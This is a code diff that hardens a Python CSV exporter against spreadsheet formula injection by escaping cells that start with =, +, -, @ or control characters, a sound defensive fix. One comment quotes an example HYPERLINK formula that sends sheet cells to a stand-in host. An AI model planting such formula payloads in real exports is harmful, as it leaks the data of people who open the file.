@@ -84,8 +84,30 @@ def stage_rows(store: Store, name: str) -> Iterator[dict[str, Any]]:
         yield {"stage": name, **row}
 
 
+# A CSV cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets:
+# a title or a speaker name like '=HYPERLINK("http://x/?"&A1, "Ferry")' sent the sheet's
+# cells away, or ran a command (DDE), when a journalist opened the export (OWASP "CSV
+# injection"). Such a cell gets a leading "'", which spreadsheets show as text and hide.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cell(value: Any) -> Any:  # noqa: ANN401 - any value a row holds
+    """Return a CSV cell's value, a text a spreadsheet would run as a formula made inert."""
+    if not isinstance(value, str) or not value.startswith(_FORMULA_STARTS):
+        return value
+    try:
+        float(value)  # "-5" or "+1.5" is a number, no formula: kept as it is
+    except ValueError:
+        return "'" + value
+    return value
+
+
 def write_export(rows: Iterator[dict[str, Any]], out: TextIO, fmt: ExportFormat) -> int:
-    """Write rows as JSONL or CSV (nested values JSON-encoded); return how many were written."""
+    """Write rows as JSONL or CSV; return how many were written.
+
+    CSV: nested values JSON-encoded, and a text a spreadsheet would run as a formula (it
+    starts with = + - @) is written with a leading "'" (JSONL keeps every value as stored).
+    """
     count = 0
     if fmt == "jsonl":
         for row in rows:
@@ -95,7 +117,7 @@ def write_export(rows: Iterator[dict[str, Any]], out: TextIO, fmt: ExportFormat)
     writer: csv.DictWriter[str] | None = None
     for row in rows:
         flat = {
-            k: json.dumps(v, ensure_ascii=False) if isinstance(v, list | dict) else v
+            k: json.dumps(v, ensure_ascii=False) if isinstance(v, list | dict) else _cell(v)
             for k, v in row.items()
         }
         if writer is None:
